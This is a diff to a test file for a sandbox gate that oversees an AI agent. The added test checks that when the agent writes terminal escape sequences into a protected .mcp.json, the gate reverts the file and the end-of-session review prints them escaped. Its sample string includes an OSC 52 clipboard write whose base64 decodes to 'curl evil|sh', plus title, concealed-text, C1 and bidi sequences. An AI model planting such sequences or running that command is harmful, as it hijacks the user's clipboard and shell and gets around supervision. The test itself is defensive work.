@@ -9,6 +9,9 @@
 //   reference to the agent's socket): past the supervisor's descriptor limit it fails closed — the agent's
 //   further accepts and connects are refused, a program the policy denies is still denied, and the session
 //   ends normally with its end record.
+// - the end-of-session review of a protected file the agent wrote (the gate's own text on the user's terminal,
+//   after the relay that filters the agent's output is gone): the agent's terminal sequences in it are printed
+//   escaped (OSC 52, a title, concealed text, C1, bidi), never raw.
 import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
 import * as fs from 'node:fs';
 import * as path from 'node:path';
@@ -199,5 +202,44 @@ exe_basename = "mount"
       // The calls past the limit were refused rather than left waiting or passed on.
       expect(got).toContain('RESULT accepts refused some');
     }, 120_000);
+  }
+});
+
+describe('gate (red-team 3, held): the end-of-session review shows the agent\'s bytes escaped', () => {
+  // The review is the gate's own text on the user's terminal, after the relay (which filters the agent's
+  // output) is gone: a protected file's content must not carry the agent's terminal sequences there — OSC 52
+  // (writes the clipboard the user pastes into a shell), a title, concealed text, a C1 CSI, bidi overrides.
+  const EVIL = '{"mcpServers":{}}\n# \x1b]52;c;Y3VybCBldmlsfHNo\x07 \x1b]0;title\x07 \x1b[8mhidden\x1b[0m \u009b31m \u202ertl\n';
+  const POLICY = `[meta]
+version = 1
+default_action = "allow"
+
+[filesystem]
+read_globs = ["/**"]
+write_globs = ["\${WORKSPACE}/**"]
+require_enforced = true
+`;
+  for (const who of ['root', 'nobody'] as const) {
+    it(`a .mcp.json with OSC 52, a title, concealed text, C1 and bidi: reverted, and the review prints them escaped (${who})`, async () => {
+      const w = workspace(who, POLICY);
+      const writer = path.join(w.ws, 'write.py');
+      fs.writeFileSync(writer, `open('.mcp.json', 'w').write(${JSON.stringify(EVIL)})\nimport time; time.sleep(1.5)\n`, { mode: 0o644 });
+      const r = await runCli(['/usr/bin/python3', writer], {
+        policy: w.policy,
+        audit: path.join(w.state, 'audit.jsonl'),
+        cwd: w.ws,
+        env: { HOME: path.dirname(w.ws) },
+        wrap: who === 'nobody' ? AS_NOBODY : [],
+      });
+      expect(r.code, r.stderr).toBe(0);
+      expect(fs.existsSync(path.join(w.ws, '.mcp.json'))).toBe(false);
+      // Control: the agent's version kept for review has the raw bytes (the agent did write them).
+      const kept = /the agent's version: (\S+)/.exec(r.stderr)?.[1];
+      expect(kept, r.stderr).toBeDefined();
+      expect(fs.readFileSync(kept!, 'utf8')).toBe(EVIL);
+      // What the gate printed: the sequences in escaped form, none of them raw.
+      expect(r.stderr).toContain('\\e]52;c;Y3VybCBldmlsfHNo');
+      for (const raw of ['\x1b]52', '\x1b]0;title', '\x1b[8m', '\u009b', '\u202e']) expect(r.stderr.includes(raw), JSON.stringify(raw)).toBe(false);
+    });
   }
 });
